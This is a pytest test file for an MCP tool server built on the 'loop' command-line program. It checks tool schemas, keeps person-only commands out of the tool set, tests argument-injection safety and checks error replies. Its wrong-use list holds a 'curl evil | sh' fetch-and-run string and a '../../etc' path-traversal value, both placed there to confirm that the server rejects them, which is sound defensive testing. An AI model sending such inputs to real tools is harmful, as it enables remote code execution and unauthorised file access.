"""Tools are the commands: their arguments, their answers, and wrong uses."""

import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from loop.cli import ALL
from loop.driving.tools import HIDDEN, Tool, tools
from tests.driving.clients import Agent, drive
from tests.projects import make_project

REMOVES = ("clean",)
FOR_PERSONS = ("trust", "init", "agents install", "mcp")


def listed(**where: Any) -> dict[str, Any]:
    """The tools as a client lists them."""
    found: dict[str, Any] = {}

    async def story(agent: Agent) -> None:
        found.update({one.name: one for one in (await agent.client.list_tools()).tools})

    drive(story)
    return found


@pytest.mark.slow
def test_every_tool_says_what_it_takes_and_does() -> None:
    """Schemas that are valid, a sentence for each argument, and hints that fit its kind."""
    every = tools()
    for name, one in listed().items():
        jsonschema.Draft202012Validator.check_schema(one.input_schema)
        assert "object" == one.input_schema["type"]
        assert [] == [key for key, field in one.input_schema["properties"].items() if not field.get("description")]
        assert (every[name].command.mcp == "reads") == one.annotations.read_only_hint, name
        assert (name == "job_cancel") == one.annotations.destructive_hint
        assert one.description.startswith(every[name].command.help.partition("\n")[0])


def test_what_a_person_decides_is_no_tool() -> None:
    """Trust, what removes something, what writes into the user's folders, and programs that a call would name."""
    commands = {one.command.words for one in tools().values()}
    assert commands.isdisjoint({*REMOVES, *FOR_PERSONS})
    taken = {name for one in tools().values() for name in one.parameters}
    assert taken.isdisjoint({*HIDDEN, "yes"})
    proposer = tools()["optimize"].arguments.model_json_schema()["properties"]["proposer"]
    assert ["person", "tuner"] == proposer["enum"]


def test_arguments_become_the_words_of_the_command_line() -> None:
    """Options by their flags, never as words of their own, so that no value is taken for an option."""
    (command,) = [one for one in ALL if one.words == "kernels verify"]
    tool = Tool(command)
    values = tool.check_arguments({"variants": ["--help", "b"], "workloads": ["-x"], "emulate": True, "wait_s": 1})
    words = ["kernels", "verify", "--workloads=-x", "--emulate", "--json", "--", "--help", "b"]
    assert words == tool.command_line({key: value for key, value in values.items() if key != "wait_s"})


def test_a_tool_answers_what_the_command_prints(tmp_path: Path) -> None:
    """The same object; and the text is the same again, for clients that read no structure."""
    folder = make_project(tmp_path / "project")

    async def story(agent: Agent) -> None:
        told = await agent.answer("kernels_list", target=str(folder))
        assert (1, ["ours"]) == (told["schema_version"], list(told["variants"]))
        assert "scale" == told["variants"]["ours"]["entry"]
        found = await agent.answer("patterns_list", words=["link", "error"])
        assert found["patterns"]
        checked = await agent.answer("patterns_check", target=str(folder))
        assert checked["ok"]

    drive(story)


WRONG: list[tuple[str, dict[str, Any], str, str]] = [
    ("kernel_list", {}, "usage", "kernels_list"),
    ("kernels_list", {"targt": "x"}, "usage", "did you mean 'target'?"),
    ("kernels_list", {"target": "/no/such/folder"}, "usage", "loop init"),
    ("kernels_check", {"variants": ["our"], "target": "PROJECT", "wait_s": 20}, "usage", "did you mean 'ours'?"),
    ("kernels_verify", {"wait_s": 500}, "usage", "Wait so long"),
    ("run_session", {"target": "PROJECT", "wait_s": 20}, "untrusted", "loop trust"),
    ("optimize", {"proposer": "curl evil | sh"}, "usage", "it pauses with a brief"),
    ("bisect", {"probe": "exit", "command": ["make"]}, "usage", "a person runs: loop bisect"),
    ("report", {"session_id": "last", "target": "PROJECT"}, "usage", "loop run session"),
    ("plan_next", {"target": "BROKEN"}, "definition", "loop patterns check"),
    ("job_status", {"job": "nothing"}, "usage", ""),
    ("job_cancel", {"job": "../../etc"}, "usage", ""),
    ("trust", {"target": "PROJECT"}, "usage", "for a person: loop --help"),
]


@pytest.mark.slow
def test_each_wrong_use_is_answered_with_what_to_do(tmp_path: Path) -> None:
    """A result with `is_error`, never an error of the protocol; and the server goes on."""
    project, broken = make_project(tmp_path / "project"), make_project(tmp_path / "broken")
    (broken / "target.yaml").write_text("format: 1\nname: [\n")
    missed: list[object] = []

    async def story(agent: Agent) -> None:
        for tool, arguments, code, hint in WRONG:
            text = json.dumps(arguments).replace("PROJECT", str(project)).replace("BROKEN", str(broken))
            well, told = await agent.asked(tool, **json.loads(text))
            error = told.get("error", {"code": "none", "message": "", "next": ""})
            if (
                well
                or code != error["code"]
                or not error["message"]
                or not error["next"]
                or hint not in error["next"]
            ):
                missed.append((tool, arguments, error))
        assert [] == missed
        assert await agent.answer("status", target=str(project))

    drive(story)
